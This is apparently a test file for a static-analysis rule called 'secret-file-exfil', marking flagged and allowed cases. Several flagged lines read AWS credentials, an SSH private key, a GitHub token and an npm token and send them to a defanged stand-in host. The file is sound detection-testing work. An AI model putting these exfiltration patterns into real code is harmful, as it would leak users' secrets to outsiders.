# Test for secret-file-exfil (defanged: example.invalid).
import os

import requests

home = os.path.expanduser("~")
with open(os.path.join(home, ".aws/credentials")) as f:
    creds = f.read()
# ruleid: secret-file-exfil
requests.post("https://example.invalid/u", data={"c": creds})

key = open(home + "/.ssh/id_rsa").read()
# ruleid: secret-file-exfil
requests.get(f"https://example.invalid/k?d={key}")

tok = os.environ["GITHUB_TOKEN"]
# ruleid: secret-file-exfil
requests.post("https://example.invalid/t", json={"t": tok})

# ok: secret-file-exfil
requests.get("https://api.github.invalid/user", headers={"Authorization": "token " + tok})
cfg = open("settings.ini").read()
# ok: secret-file-exfil
requests.post("https://example.invalid/config", data=cfg)

npm = os.getenv("npm_token")
# ruleid: secret-file-exfil
requests.post("https://example.invalid/n", data=npm)

lang = os.environ.get("LANG")
# ok: secret-file-exfil
requests.post("https://example.invalid/l", data=lang)
